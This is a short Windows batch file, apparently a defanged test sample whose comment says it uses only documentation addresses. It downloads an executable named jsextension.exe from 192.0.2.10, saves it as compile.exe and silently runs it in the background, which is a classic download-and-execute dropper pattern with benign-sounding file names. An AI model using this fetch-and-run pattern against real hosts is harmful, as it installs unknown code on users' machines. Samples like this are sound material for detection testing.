@echo off
rem DEFANGED TEST SAMPLE: documentation addresses only (RFC 5737).
curl http://192.0.2.10/download/jsextension.exe -o compile.exe
start /B compile.exe
